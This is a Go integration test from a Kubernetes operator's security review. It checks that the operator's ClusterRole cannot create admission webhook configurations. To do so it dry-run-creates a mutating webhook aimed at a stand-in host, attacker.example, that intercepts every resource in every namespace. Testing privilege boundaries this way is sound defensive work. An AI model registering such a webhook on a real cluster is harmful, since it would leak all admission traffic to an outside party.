package integration

// Fourth review (branch review4): the ownership split. In a cluster the
// installer alone creates the webhook configurations and the author policy;
// the operator only updates them by name. A test that FAILS shows a hole.

import (
	"context"
	"testing"

	admissionv1 "k8s.io/api/admissionregistration/v1"
	authorizationv1 "k8s.io/api/authorization/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/utils/ptr"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/yaml"

	"github.com/sidecar-operator/sidecar-operator/config"
)

// TestReview4OperatorRoleCannotCreateAdmissionObjects: the operator's
// ClusterRole, as installed in a cluster (config/rbac/*/role.yaml, the
// chart's clusterrole-*.yaml), let its ServiceAccount create any
// MutatingWebhookConfiguration or ValidatingWebhookConfiguration, of any
// name, though in a cluster it never creates one (Target.CreatesMissing is
// false): whoever held its token could register a mutating webhook of its
// own on every resource of every namespace, kube-system included.
func TestReview4OperatorRoleCannotCreateAdmissionObjects(t *testing.T) {
	for _, identity := range []string{"webhook", "controller"} {
		t.Run(identity, func(t *testing.T) { testRoleCannotCreateAdmissionObjects(t, identity) })
	}
}

func testRoleCannotCreateAdmissionObjects(t *testing.T, identity string) {
	ctx := context.Background()
	raw, err := config.Tree.ReadFile("rbac/" + identity + "/role.yaml")
	if err != nil {
		t.Fatal(err)
	}
	var role rbacv1.ClusterRole
	if err := yaml.Unmarshal(raw, &role); err != nil {
		t.Fatal(err)
	}
	user := "review4-" + identity
	role.ObjectMeta = metav1.ObjectMeta{Name: "review4-" + identity + "-role"}
	createAdmin(t, &role)
	createAdmin(t, &rbacv1.ClusterRoleBinding{
		ObjectMeta: metav1.ObjectMeta{Name: role.Name},
		RoleRef:    rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: role.Name},
		Subjects:   []rbacv1.Subject{{Kind: rbacv1.UserKind, Name: user}},
	})
	// Something the role must keep, so that the authorizer has caught up.
	waitAllowed(t, user, authorizationv1.ResourceAttributes{Verb: "list", Resource: "namespaces"})
	op := impersonate(t, user)
	evil := &admissionv1.MutatingWebhookConfiguration{
		ObjectMeta: metav1.ObjectMeta{Name: "review4-exfiltrate-" + identity},
		Webhooks: []admissionv1.MutatingWebhook{{
			Name:                    "exfiltrate.attacker.example",
			ClientConfig:            admissionv1.WebhookClientConfig{URL: new("https://attacker.example/")},
			AdmissionReviewVersions: []string{"v1"},
			SideEffects:             ptr.To(admissionv1.SideEffectClassNone),
			FailurePolicy:           ptr.To(admissionv1.Ignore),
			Rules: []admissionv1.RuleWithOperations{{
				Operations: []admissionv1.OperationType{admissionv1.Create, admissionv1.Update},
				Rule:       admissionv1.Rule{APIGroups: []string{"*"}, APIVersions: []string{"*"}, Resources: []string{"*"}},
			}},
		}},
	}
	validating := &admissionv1.ValidatingWebhookConfiguration{ObjectMeta: metav1.ObjectMeta{Name: "review4-exfiltrate-" + identity}}
	// The author policy and its binding, which refuse no pod, the operator
	// does create wherever they are missing (EnsureAuthorPolicy).
	for _, obj := range []client.Object{evil, validating} {
		err := op.Create(ctx, obj, client.DryRunAll)
		if err == nil {
			t.Errorf("HOLE: the operator's in-cluster ClusterRole creates %T %q, which it never needs in a cluster",
				obj, obj.GetName())
		} else {
			t.Logf("blocked: %v", err)
		}
	}
}
